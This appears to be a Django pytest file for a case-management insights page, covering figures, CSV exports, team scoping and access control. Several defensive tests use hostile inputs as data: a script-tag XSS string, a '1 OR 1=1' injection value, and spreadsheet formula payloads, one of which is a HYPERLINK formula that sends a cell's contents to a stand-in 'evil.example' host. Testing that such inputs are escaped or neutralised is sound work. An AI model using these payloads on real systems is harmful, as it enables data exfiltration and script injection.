def test_another_teams_manager_sees_no_surge_on_home(
    signed_in, team, staff, other_team_manager, admin_user, category
):
    this_week(team, category, 6, by=staff)
    html = signed_in(other_team_manager).get(reverse("home")).content.decode()
    assert 'id="surge-alert"' not in html
    assert 'id="surge-alert"' in signed_in(admin_user).get(reverse("home")).content.decode()


def test_insights_page_shows_the_surge_alert(signed_in, team, staff, manager, category):
    this_week(team, category, 5, by=staff)
    response = signed_in(manager).get(insights_url())
    assert response.context["data"].surges == [
        {"category": "Refund dispute", "this_week": 5, "weekly_average": Decimal("0.0")}
    ]
    assert "Refund dispute — 5 cases in the last 7 days" in text_of(response.content.decode())


# The page shows the same figures ---------------------------------------------------------


def test_page_shows_every_figure_of_the_period(world, signed_in, manager):
    response = signed_in(manager).get(insights_url(**CUSTOM))
    assert response.status_code == 200
    data = response.context["data"]
    w = world
    assert as_tuples(
        data.exceptions_by_policy, ("policy", "title", "requested", "granted", "denied", "value")
    ) == (EXPECTED_BY_POLICY)
    assert as_tuples(data.exceptions_by_person, ("person", "granted", "value")) == (
        EXPECTED_BY_PERSON
    )
    assert as_tuples(data.exception_share, ("status", "count")) == EXPECTED_SHARE
    assert data.decision_hours == EXPECTED_DECISION_HOURS
    assert data.follow_through == EXPECTED_FOLLOW_THROUGH
    assert data.reminders == EXPECTED_REMINDERS
    assert data.satisfaction == EXPECTED_SATISFACTION
    assert data.low_ratings == expected_low_ratings(w)
    assert data.complaints_weekly == EXPECTED_COMPLAINTS_WEEKLY
    assert data.top_categories == EXPECTED_TOP
    assert data.cost_to_serve == expected_cost(w)
    assert data.demeanour_outcomes == EXPECTED_DEMEANOUR
    assert as_tuples(data.policy_signals, ("policy", "title", "requested", "denied")) == (
        EXPECTED_SIGNALS
    )
    assert data.surges == []

    tables = page_tables(response)
    assert tables["exceptions_by_policy"][1:] == [
        ["DIAG-FEE", DIAG_TITLE, "4", "3", "1", "£130.00"],
        ["RET-60", RET_TITLE, "4", "1", "2", "£5.50"],
        ["Off-policy", "Off-policy exceptions", "1", "0", "0", "£0.00"],
    ]
    assert tables["exceptions_by_person"][1:] == [
        ["Mo Manager", "2", "£110.00"],
        ["Sam Staff", "1", "£20.00"],
        ["Cleo Colleague", "1", "£5.50"],
    ]
    assert tables["follow_through"][1:] == [
        ["Cleo Colleague", "0", "1", "1", "0"],
        ["Sam Staff", "2", "1", "1", "2"],
    ]
    assert tables["satisfaction"][1:] == [
        ["2026-03-02", "3", "2", "67", "3.5"],
        ["2026-03-09", "2", "2", "100", "2.0"],
    ]
    assert tables["low_ratings"][1:] == [
        [w.b.reference, "2", "Kept me waiting", "2026-03-04"],
        [w.b2.reference, "1", "Nobody called back", "2026-03-10"],
    ]
    assert tables["top_categories"][1:] == [
        ["Refund dispute", "3"],
        ["Late delivery", "1"],
        ["Rude staff", "1"],
    ]
    assert tables["cost_to_serve"][1:] == [
        ["Dana Whitfield", "2", "30", "£15.00", "£130.00", "£145.00"],
        ["Carl Ore", "0", "200", "£100.00", "£0.00", "£100.00"],
        ["Brook Lane", "3", "10", "£5.00", "£5.50", "£10.50"],
    ]
    assert tables["demeanour_outcomes"][1:] == [
        ["Calm", "0", "0", "0", "1", "0", "0"],
        ["Angry", "1", "1", "0", "0", "0", "0"],
    ]
    assert tables["policy_signals"][1:] == [
        ["RET-60", RET_TITLE, "4", "2"],
        ["DIAG-FEE", DIAG_TITLE, "4", "1"],
    ]

    text = text_of(response.content.decode())
    assert "Time to a decision: 5 decided · median 3.0 h · 90th percentile 10.0 h" in text
    assert "Reminders: 2 sent · 1 failed · 2 waiting" in text
    assert "2 Mar 2026 – 15 Mar 2026 · 14 days" in text


def test_cost_to_serve_links_to_customer_profiles_and_low_ratings_to_cases(
    world, signed_in, manager
):
    html = signed_in(manager).get(insights_url(**CUSTOM)).content.decode()
    table = re.search(r'<table[^>]*id="table-cost_to_serve".*?</table>', html, re.S).group(0)
    for customer in (world.dana, world.carl, world.brook):
        assert f'<a href="{customer.get_absolute_url()}">{customer.name}</a>' in table
    low = re.search(r'<table[^>]*id="table-low_ratings".*?</table>', html, re.S).group(0)
    for case in (world.b, world.b2):
        assert f'<a href="{case.get_absolute_url()}">{case.reference}</a>' in low


def test_what_people_typed_shows_in_the_tables_as_typed_never_as_markup(world, signed_in, manager):
    """A customer's name and a rating's comment are the customers' own words: the tables
    show them as text, inside the profile's link where there is one."""
    from cases.models import Customer, FeedbackRequest

    Customer.objects.filter(pk=world.dana.pk).update(name="<b>Dana</b> & Co")
    FeedbackRequest.objects.filter(comment="Kept me waiting").update(
        comment='<script>alert("x")</script> waited'
    )
    html = signed_in(manager).get(insights_url(**CUSTOM)).content.decode()
    cost = re.search(r'<table[^>]*id="table-cost_to_serve".*?</table>', html, re.S).group(0)
    assert f'<a href="{world.dana.get_absolute_url()}">&lt;b&gt;Dana&lt;/b&gt; &amp; Co</a>' in cost
    low = re.search(r'<table[^>]*id="table-low_ratings".*?</table>', html, re.S).group(0)
    assert "<td>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; waited</td>" in low
    assert "<script>alert" not in html and "<b>Dana" not in html


def test_chart_data_carries_the_tables_numbers(world, signed_in, manager):
    html = signed_in(manager).get(insights_url(**CUSTOM)).content.decode()
    found = re.search(r'<script id="chart-data" type="application/json">(.*?)</script>', html)
    charts = json.loads(found.group(1))
    assert charts["exceptions_by_policy"] == {
        "labels": ["DIAG-FEE", "RET-60", "Off-policy"],
        "series": {"Value granted": [130.0, 5.5, 0.0]},
    }
    assert charts["complaints_weekly"] == {
        "labels": ["2026-03-02", "2026-03-09"],
        "series": {"Late delivery": [1, 0], "Refund dispute": [1, 2], "Rude staff": [0, 1]},
    }
    assert charts["satisfaction"]["series"] == {"Average rating": [3.5, 2.0]}


# Period and team selection ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("period", "first", "days", "top"),
    [
        # 6–12 March: b2, e (Refund) and f (Rude).
        ("7", date(2026, 3, 6), 7, [("Refund dispute", 2), ("Rude staff", 1)]),
        # 11 Feb–12 March: adds a, b and c (20 Feb).
        (
            "30",
            date(2026, 2, 11),
            30,
            [("Refund dispute", 3), ("Rude staff", 2), ("Late delivery", 1)],
        ),
        # 13 Dec–12 March: adds d (10 Jan) and q (5 Feb).
        (
            "90",
            date(2025, 12, 13),
            90,
            [("Refund dispute", 4), ("Late delivery", 2), ("Rude staff", 2)],
        ),
    ],
)
def test_last_7_30_90_days_end_today(world, signed_in, manager, period, first, days, top):
    response = signed_in(manager).get(insights_url(period=period))
    assert response.status_code == 200
    assert (response.context["first_day"], response.context["last_day"]) == (first, NOW.date())
    assert response.context["data"].period.days == days
    assert [(r["category"], r["cases"]) for r in response.context["data"].top_categories] == top
    # The chosen period stays in the URL of every CSV link.
    assert f'href="{export_url("top_categories", period=period)}"' in response.content.decode()


def test_no_period_in_the_url_means_the_last_30_days(world, signed_in, manager):
    response = signed_in(manager).get(insights_url())
    assert response.status_code == 200
    assert response.context["first_day"] == date(2026, 2, 11)


def test_custom_period_in_the_url_is_used_and_kept_in_the_csv_links(world, signed_in, manager):
    response = signed_in(manager).get(insights_url(**CUSTOM))
    assert (response.context["first_day"], response.context["last_day"]) == (FIRST, LAST)
    html = response.content.decode()
    assert f'href="{export_url("cost_to_serve", **CUSTOM)}"'.replace("&", "&amp;") in html
    assert 'value="2026-03-02"' in html and 'value="2026-03-15"' in html


def field_column(html: str, field: str) -> str:
    """The text of the selector's column that holds `field` (its label, input, errors)."""
    form = re.search(r'<form method="get".*?</form>', html, re.S).group(0)
    columns = re.split(r'<div class="col-sm-\d[^"]*">', form)
    return text_of(next(c for c in columns if f'name="{field}"' in c))


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        (
            {"period": "custom", "start": "2026-03-10", "end": "2026-03-09"},
            "end",
            "The last day cannot be before the first.",
        ),
        ({"period": "custom", "end": "2026-03-09"}, "start", "Choose the first day."),
        ({"period": "custom", "start": "2026-03-09"}, "end", "Choose the last day."),
        ({"period": "custom", "start": "2026-02-30", "end": "2026-03-09"}, "start", "valid date"),
        ({"period": "custom", "start": "2020-01-01", "end": "2026-03-09"}, "start", "three years"),
        ({"period": "365"}, "period", "valid choice"),
    ],
    ids=["end-before-start", "no-start", "no-end", "no-such-day", "too-long", "bad-period"],
)
def test_a_bad_period_is_a_400_with_the_message_next_to_the_field(
    world, signed_in, manager, params, field, message
):
    response = signed_in(manager).get(insights_url(**params))
    assert response.status_code == 400
    html = response.content.decode()
    # The message sits in the same column as the field it is about.
    assert message in field_column(html, field), field_column(html, field)
    # The figures fall back to the last 30 days rather than failing.
    assert response.context["first_day"] == date(2026, 2, 11)


def test_a_tampered_team_id_is_refused_and_never_shows_that_teams_numbers(
    world, signed_in, manager, other_team
):
    response = signed_in(manager).get(insights_url(team=other_team.pk, **CUSTOM))
    assert response.status_code == 400
    html = response.content.decode()
    assert "Select a valid choice" in text_of(html)
    for theirs in ("Zed Kiosk", "Warranty claim", "Otto Side", "Airport rudeness"):
        assert theirs not in html
    # The whole form is refused, so the page falls back to the default: the last 30 days
    # of the manager's own teams.
    data = response.context["data"]
    assert data.period.team_ids == (world.team.pk,)
    assert (
        data.cost_to_serve == figures([world.team.pk], date(2026, 2, 11), NOW.date()).cost_to_serve
    )


@pytest.mark.parametrize(
    "team_value", ["999999", "abc", "-1", "1 OR 1=1", "99999999999999999999", "\x00"]
)
def test_nonsense_team_ids_are_a_400_not_a_500(world, signed_in, manager, team_value):
    response = signed_in(manager).get(insights_url(team=team_value, **CUSTOM))
    assert response.status_code == 400


def test_a_manager_sees_only_their_teams_figures(world, signed_in, manager, other_team):
    response = signed_in(manager).get(insights_url(**CUSTOM))
    html = response.content.decode()
    for theirs in ("Zed Kiosk", "Warranty claim", "Otto Side", "Airport rudeness", "Abusive"):
        assert theirs not in html, theirs
    assert f'<option value="{other_team.pk}"' not in html
    assert response.context["data"].period.team_ids == (world.team.pk,)


def test_a_manager_of_two_teams_picks_one(world, signed_in, team, other_team):
    both = UserFactory(
        username="regional", first_name="Rita", role=Role.MANAGER, teams=[team, other_team]
    )
    client = signed_in(both)
    everything = client.get(insights_url(**CUSTOM)).context["data"]
    assert {r["customer"] for r in everything.cost_to_serve} == {
        "Zed Kiosk",
        "Dana Whitfield",
        "Carl Ore",
        "Brook Lane",
    }
    theirs = client.get(insights_url(team=other_team.pk, **CUSTOM))
    assert theirs.status_code == 200
    assert [r["customer"] for r in theirs.context["data"].cost_to_serve] == ["Zed Kiosk"]
    ours = client.get(insights_url(team=team.pk, **CUSTOM)).context["data"]
    assert ours.cost_to_serve == expected_cost(world)


def test_an_admin_sees_all_teams(world, signed_in, admin_user, team, other_team):
    response = signed_in(admin_user).get(insights_url(**CUSTOM))
    assert response.status_code == 200
    data = response.context["data"]
    assert set(data.period.team_ids) == {team.pk, other_team.pk}
    # Zed: 500 minutes (250.00) + 24.00 granted = 274.00, the most of all.
    assert (data.cost_to_serve[0]["customer"], data.cost_to_serve[0]["total"]) == (
        "Zed Kiosk",
        Decimal("274.00"),
    )
    assert {"category": "Warranty claim", "cases": 1} in data.top_categories
    assert ("Otto Side", 1, Decimal("24.00")) in as_tuples(
        data.exceptions_by_person, ("person", "granted", "value")
    )
    assert data.reminders == {"sent": 2, "failed": 2, "waiting": 2}
    only_ours = signed_in(admin_user).get(insights_url(team=team.pk, **CUSTOM))
    assert only_ours.context["data"].cost_to_serve == expected_cost(world)


def test_staff_get_403_on_the_page(signed_in, staff):
    assert signed_in(staff).get(insights_url()).status_code == 403


@pytest.mark.parametrize("table", list(INSIGHT_TABLES))
def test_staff_get_403_on_every_csv(signed_in, staff, table):
    assert signed_in(staff).get(export_url(table, **CUSTOM)).status_code == 403


@pytest.mark.parametrize("url", [insights_url(), export_url("cost_to_serve")])
def test_anonymous_visitors_are_sent_to_sign_in(client, db, url):
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


# Fixed queries ---------------------------------------------------------------------------


def grow(n: int, *, team, staff, manager, categories, allowed) -> None:
    """n more customers, each with a case and its interactions, requests, tasks, reminders
    and feedback in the period; more people too."""
    helpers = [
        UserFactory(username=f"helper{i}", first_name=f"Helper{i}", teams=[team])
        for i in range(max(n // 10, 1))
    ]
    for i in range(n):
        day = 2 + i % 10
        person = helpers[i % len(helpers)]
        customer = CustomerFactory(name=f"Bulk {i}", team=team, created_by=staff)
        case = make_case(
            customer,
            categories[i % len(categories)],
            at(day, 9),
            demeanour=Demeanour.values[i % len(Demeanour.values)],
            by=person,
        )
        for minutes in (5, 7):
            InteractionFactory(case=case, author=person, occurred_at=at(day, 10), minutes=minutes)
        ask(case, person, allowed, "10.00", when=at(day, 10))
        decide(
            ask(case, person, allowed, "50.00", when=at(day, 10)), manager, "deny", when=at(day, 12)
        )
        task(case, person, at(day, 11), status=TaskStatus.DONE, completed=at(day, 12))
        task(case, person, at(day + 3, 11))
        reminder(case, at(day, 8), ReminderState.SENT)
        feedback(case, at(day, 9), used=at(day, 10), rating=1 + i % 5, comment=f"Comment {i}")
        if i % 2:
            resolve(case, outcome="compromise", when=at(day, 15))


def count_queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_the_page_runs_the_same_number_of_queries_with_ten_times_the_rows(
    world, signed_in, manager, team, staff, allowed, capsys
):
    client = signed_in(manager)
    url = insights_url(**CUSTOM)
    client.get(url)  # warm up: session, caches
    few = count_queries(client, url)
    categories = [world.refund, world.late, world.rude]
    grow(80, team=team, staff=staff, manager=manager, categories=categories, allowed=allowed)
    assert Case.objects.filter(team=team).count() >= 10 * 8
    client.get(url)  # the new requests made the approvals badge count afresh, once
    many = count_queries(client, url)
    with capsys.disabled():
        print(f"\ninsights page queries: {few} with the small fixture, {many} with 10x rows")
    assert few == many
    csv_url = export_url("cost_to_serve", **CUSTOM)
    assert count_queries(client, csv_url) <= few


# CSV -------------------------------------------------------------------------------------


def _same(page_cell: str, csv_cell: str) -> bool:
    if page_cell == "—":
        return csv_cell == ""
    if re.fullmatch(r"-?£[\d,]+\.\d\d", page_cell):  # money: £ on the page, a number in CSV
        return Decimal(page_cell.replace(",", "").replace("£", "")) == Decimal(csv_cell)
    return page_cell == csv_cell


@pytest.mark.parametrize("table", list(INSIGHT_TABLES))
def test_every_table_exports_with_its_header_and_the_pages_numbers(
    world, signed_in, manager, table
):
    client = signed_in(manager)
    page = page_tables(client.get(insights_url(**CUSTOM)))[table]
    response = client.get(export_url(table, **CUSTOM))
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="{table}_2026-03-02_2026-03-15.csv"'
    )
    rows = csv_rows(response)
    title, columns = INSIGHT_TABLES[table]
    assert rows[0] == [label for _, label in columns] == page[0]
    assert len(rows) == len(page), f"{title}: CSV {rows[1:]} vs page {page[1:]}"
    assert len(rows) > 1, f"{title} is empty in the fixture"
    for page_row, csv_row in zip(page[1:], rows[1:], strict=True):
        assert all(_same(p, c) for p, c in zip(page_row, csv_row, strict=True)), (
            page_row,
            csv_row,
        )


def test_csv_money_is_exact(world, signed_in, manager):
    client = signed_in(manager)
    rows = csv_rows(client.get(export_url("cost_to_serve", **CUSTOM)))
    assert rows[1:] == [
        ["Dana Whitfield", "2", "30", "15.00", "130.00", "145.00"],
        ["Carl Ore", "0", "200", "100.00", "0.00", "100.00"],
        ["Brook Lane", "3", "10", "5.00", "5.50", "10.50"],
    ]
    people = csv_rows(client.get(export_url("exceptions_by_person", **CUSTOM)))
    assert [(name, n, Decimal(v)) for name, n, v in people[1:]] == [
        (name, str(n), v) for name, n, v in EXPECTED_BY_PERSON
    ]


def test_unknown_table_is_404(signed_in, manager):
    assert signed_in(manager).get("/insights/export/passwords.csv").status_code == 404
    assert signed_in(manager).get("/insights/export/Exception_Share.csv").status_code == 404


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(1)"],
)
def test_a_customer_name_that_looks_like_a_formula_is_neutralised(
    signed_in, manager, team, staff, category, name
):
    sly = CustomerFactory(name=name, team=team, created_by=staff)
    sly_case = make_case(sly, category, at(3), by=staff)
    InteractionFactory(case=sly_case, author=staff, occurred_at=at(3), minutes=10)
    rows = csv_rows(signed_in(manager).get(export_url("cost_to_serve", **CUSTOM)))
    assert rows[1] == ["'" + name, "1", "10", "5.00", "0.00", "5.00"]


@pytest.mark.parametrize("comment", ["=1+1", "+1", "-2", "@SUM(1)", "\t=1", "\r=1"])
def test_a_feedback_comment_that_looks_like_a_formula_is_neutralised(
    signed_in, manager, case, comment
):
    feedback(case, at(3), used=at(3, 12), rating=1, comment=comment)
    rows = csv_rows(signed_in(manager).get(export_url("low_ratings", **CUSTOM)))
    assert rows[1][2] == "'" + comment


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=cmd", "'=cmd"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Plain", "Plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (Decimal("5.50"), "5.50"),
    ],
)
def test_safe_cell_prefixes_only_cells_that_start_a_formula(value, cell):
    assert _safe_cell(value) == cell


def test_csv_obeys_the_team_scope(world, signed_in, manager, admin_user, other_team):
    client = signed_in(manager)
    for table in INSIGHT_TABLES:
        ours = client.get(export_url(table, **CUSTOM))
        tampered = client.get(export_url(table, team=other_team.pk, **CUSTOM))
        assert (ours.status_code, tampered.status_code) == (200, 400), table
        for body in (ours.content.decode(), tampered.content.decode()):
            for theirs in ("Zed Kiosk", "Warranty claim", "Otto Side", "Airport rudeness"):
                assert theirs not in body, table
    admin = signed_in(admin_user).get(export_url("cost_to_serve", **CUSTOM)).content.decode()
    assert "Zed Kiosk" in admin
    only_ours = signed_in(admin_user).get(export_url("cost_to_serve", team=world.team.pk, **CUSTOM))
    assert "Zed Kiosk" not in only_ours.content.decode()


@pytest.mark.parametrize(
    "params",
    [
        {"period": "custom", "start": "2026-03-10", "end": "2026-03-09"},
        {"period": "custom"},
        {"period": "365"},
    ],
)
def test_csv_with_a_bad_period_is_refused_not_guessed(world, signed_in, manager, params):
    response = signed_in(manager).get(export_url("cost_to_serve", **params))
    assert response.status_code == 400
    assert "Dana Whitfield" not in response.content.decode()


def test_insights_are_shared_for_a_minute_then_recomputed(
    settings, signed_in, manager, team, category
):
    """With the cache on (production), a second view within the minute runs far fewer
    queries and shows the same figures; after the minute, new cases show."""
    from django.utils import timezone as tz

    from tests.factories import CaseFactory

    settings.CASEDESK_INSIGHTS_CACHE_SECONDS = 60
    # Redis keeps its own clock, which time travel cannot move: the minute is checked on
    # the per-process cache here, and on Redis in tests/test_cache.py.
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}}
    client = signed_in(manager)
    CaseFactory(team=team, category=category)
    start = tz.now()
    with time_machine.travel(start, tick=False):
        with CaptureQueriesContext(connection) as first:
            client.get("/insights/?period=7")
        with CaptureQueriesContext(connection) as second:
            client.get("/insights/?period=7")
        assert len(second) < len(first) - 10
        CaseFactory(team=team, category=category)
        top = client.get("/insights/export/top_categories.csv?period=7").content.decode()
        assert f"{category.name},1" in top  # still the cached minute
    with time_machine.travel(start + timedelta(seconds=61), tick=False):
        top = client.get("/insights/export/top_categories.csv?period=7").content.decode()
        assert f"{category.name},2" in top


def test_ratings_count_in_the_week_they_were_given_not_the_week_planned(team, staff, category):
    """A rating belongs to the week the customer gave it; the response rate to the week
    the request was planned for (cases/insights/feedback.py says why)."""
    customer = CustomerFactory(name="Rhea Later", team=team, created_by=staff)
    case = make_case(customer, category, at(20, month=2), by=staff)
    # Planned before the period, answered in its first week: counted there, not asked there.
    feedback(case, at(27, month=2), used=at(3, 9), rating=4)
    # Planned in the first week, answered in the second.
    feedback(case, at(6, 10), used=at(10, 16), rating=2, comment="Slow")
    # Planned in the period, answered after it ends: not a rating of this period.
    feedback(case, at(11, 10), used=at(18, 10), rating=5)
    data = figures([team.pk])
    assert data.satisfaction == [
        {"week": "2026-03-02", "asked": 1, "answered": 1, "response_rate": 100, "average": 4.0},
        {"week": "2026-03-09", "asked": 1, "answered": 1, "response_rate": 100, "average": 2.0},
    ]
    assert [(r["rating"], r["answered"]) for r in data.low_ratings] == [(2, "2026-03-10")]


def test_follow_through_with_only_tasks_not_yet_due_has_nothing_to_chart(
    team, staff, category, signed_in, manager
):
    customer = CustomerFactory(name="Una Due", team=team, created_by=staff)
    case = make_case(customer, category, at(3), by=staff)
    task(case, staff, at(14))  # due after NOW: in the table as "not yet due", not charted
    html = signed_in(manager).get(insights_url(**CUSTOM)).content.decode()
    found = re.search(r'<script id="chart-data" type="application/json">(.*?)</script>', html)
    chart = json.loads(found.group(1))["follow_through"]
    assert chart["labels"] == [] and all(v == [] for v in chart["series"].values())
    table = re.search(r'<table[^>]*id="table-follow_through".*?</table>', html, re.S).group(0)
    assert "Sam Staff" in table
